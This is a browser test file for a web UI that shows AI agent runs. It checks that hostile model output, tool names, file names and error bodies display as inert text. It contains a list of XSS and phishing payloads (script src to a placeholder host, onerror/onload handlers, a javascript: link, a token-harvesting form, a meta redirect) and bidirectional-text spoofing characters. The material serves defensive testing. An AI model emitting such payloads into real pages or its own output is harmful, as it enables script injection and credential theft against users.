import { expect, test } from '../fixtures.ts';
import { RunView } from '../run-view.ts';
import { finishRun } from '../runs.ts';

/** These addresses are unused (RFC 5737), and no request may be sent to them: the fixture checks every request. */
const markup = [
  '<img src="http://192.0.2.1/pixel.png" onerror="window.pwned = 1">',
  '<script src="http://192.0.2.1/evil.js"></script><script>window.pwned = 2; alert(2)</script>',
  '<iframe srcdoc="<script>parent.pwned = 3</script>"></iframe><style>@import "http://192.0.2.1/x.css";</style>',
  '![track](http://192.0.2.1/markdown.png) [click](javascript:window.pwned=4)',
  '<a href="http://192.0.2.1/" target="_top">sign in again</a><form action="http://192.0.2.1/"><input name="token"></form>',
  '</pre></article><svg onload="window.pwned = 5"><meta http-equiv="refresh" content="0;url=http://192.0.2.1/">',
].join('\n');
const spoof = 'invoice\u202egpj.exe \u200bzero \u001b[31mred\u001b[0m \u0000end';

test('hostile text from model, tools and task is shown as text and does nothing [D18, D2]', async ({
  page,
  context,
  loupe,
  ollama,
  workspace,
}) => {
  const nasty = `nasty<img src=x onerror=window.pwned=6>.md`;
  ollama.add({
    name: 'hostile',
    steps: [
      {
        reply: {
          thinking: `I think ${markup}`,
          content: `I say ${markup} ${spoof}`,
          tool_calls: [
            { name: 'list_directory', arguments: { path: '.' } },
            { name: 'read_file', arguments: { path: nasty } },
            { name: 'read_file', arguments: { path: markup } },
            { name: '<b onclick="window.pwned=7">tool</b>', arguments: { '<i>key</i>': markup } },
            { name: 'write_file', arguments: { path: 'out.html', content: markup } },
          ],
        },
      },
      { reply: { content: `The task is completed. ${markup} ${spoof}` } },
    ],
  });
  const { id } = await finishRun(loupe, {
    task: `${markup}\n${spoof}`,
    model: 'hostile',
    think: true,
    workspace: workspace({ [nasty]: `${markup}\n${spoof}` }),
    checks: [{ type: 'file_contains', path: 'out.html', text: markup }],
  });
  const pages = context.pages().length;
  const view = new RunView(page);
  await view.open(id);
  await view.expectEnd('The model answered', 'final_answer');

  const rows = view.timeline.locator('article');
  // Everything that can be unfolded is unfolded: what is hidden is not safe because it is hidden.
  await page.setViewportSize({ width: 1280, height: 9000 });
  await expect(view.row('Task')).toBeInViewport();
  await expect(view.end).toBeInViewport();
  // Excludes menus, because opening one closes the other.
  const folded = view.timeline.locator('button[aria-expanded="false"]:not([popovertarget])');
  await expect(async () => {
    for (let left = await folded.count(); left > 0; left = await folded.count()) await folded.first().click();
    await expect(folded).toHaveCount(0, { timeout: 1000 });
  }).toPass();
  const text = [...(await view.allRows()).values()].join('\n');
  for (const line of markup.split('\n')) expect(text).toContain(line);
  await expect(
    rows.locator('img, script, iframe, style, form[action], meta, a[href^="http"], a[href^="javascript"]'),
  ).toHaveCount(0);
  await expect(rows.locator('svg[onload], [onerror], [onclick]')).toHaveCount(0);

  await test.step('characters that would not be seen, or turn the reading direction, are shown by name', async () => {
    expect(text).toContain('invoiceRLOgpj.exe');
    expect(text).toContain('ZWSPzero');
    expect(text).toContain('ESC[31mred');
    expect(text).toContain('NULend');
    await expect(rows.filter({ hasText: '\u202e' })).toHaveCount(0);
  });

  await test.step('the title, the list of runs and the log download are no way out either', async () => {
    expect(await page.title()).toContain('<img src=');
    await page.goto('/');
    await expect(page.getByRole('link', { name: /<img src="http:\/\/192/ })).toBeVisible();
    await expect(page.getByRole('main').locator('img, script')).toHaveCount(0);
    const log = await loupe.request(`/api/runs/${id}/log`);
    expect(log.headers.get('content-disposition')).toContain('attachment');
    expect(log.headers.get('x-content-type-options')).toBe('nosniff');
    expect(log.headers.get('content-type')).not.toContain('html');
  });
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  expect(context.pages()).toHaveLength(pages);
});

test('a hostile Ollama cannot put markup into health, models or errors [D18]', async ({
  page,
  loupe,
  ollama,
}) => {
  const model = 'm<img src=http://192.0.2.1/m.png onerror=window.pwned=8>';
  ollama.add({
    name: 'hostile-model',
    model,
    steps: [{ fault: { kind: 'http', status: 400, body: { error: markup }, content_type: 'text/html' } }],
  });
  const { id } = await finishRun(loupe, { task: 'Fail', model });
  const view = new RunView(page);
  await view.open(id);
  await view.expectEnd('The run failed', 'error');
  await expect(view.end).toContainText('<script>window.pwned = 2; alert(2)</script>');
  for (const path of ['/models', '/runs/new', '/health', '/']) {
    await page.goto(path);
    await expect(page.getByRole('main')).toContainText('m<img src=http://192.0.2.1/m.png');
    await expect(page.getByRole('main').locator('img, script, iframe')).toHaveCount(0);
  }
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
});
